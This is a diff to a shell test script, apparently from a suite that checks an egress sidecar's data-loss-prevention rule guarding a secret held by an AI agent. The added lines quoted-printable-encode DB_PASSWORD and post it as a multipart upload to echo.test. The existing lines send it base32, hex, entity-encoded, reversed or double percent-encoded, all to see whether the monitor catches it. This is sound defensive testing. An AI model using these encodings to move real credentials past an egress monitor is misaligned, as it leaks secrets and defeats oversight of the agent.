@@ -1,7 +1,7 @@
-# S4: held secret in simple reversible encodings the detector has no view for: base32, mixed-case hex, HTML decimal entities, reversed, double percent-encoding in the path (HTTPS, h1 and h2)
+# S4: held secret in simple reversible encodings the detector has no view for: base32, mixed-case hex, HTML decimal entities, reversed, a quoted-printable multipart part, double percent-encoding in the path (HTTPS, h1 and h2)
 # expect: fail
 # audit: sidecar=egress decision=deny rule~dlp:held: host=echo.test
-# audit-min: 10
+# audit-min: 12
 # upstream-must-not-see: DB_PASSWORD
 # host-check: echo-untouched
 # Each form is one `tr`/`od` away from the value the agent holds; a
@@ -21,5 +21,12 @@ for name in b32 mixhex ent rev; do
   fi
 done
 h1h2 "https://echo.test/allowed/$dpct" && leaked="$leaked double-percent-path"
+# multipart/form-data part with Content-Transfer-Encoding: quoted-printable
+# (`=` becomes `=3D`)
+qp=$(printf %s "$DB_PASSWORD" | sed 's/=/=3D/g')
+f=/tmp/s4-18.multipart
+printf -- '--XYZ\r\nContent-Disposition: form-data; name="f"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n%s\r\n--XYZ--\r\n' "$qp" > "$f"
+h1h2 -H 'Content-Type: multipart/form-data; boundary=XYZ' --data-binary "@$f" https://echo.test/allowed/enc-qp && leaked="$leaked quoted-printable"
+rm -f "$f"
 echo "left through the route:${leaked:- none}"
 [ -n "$leaked" ]
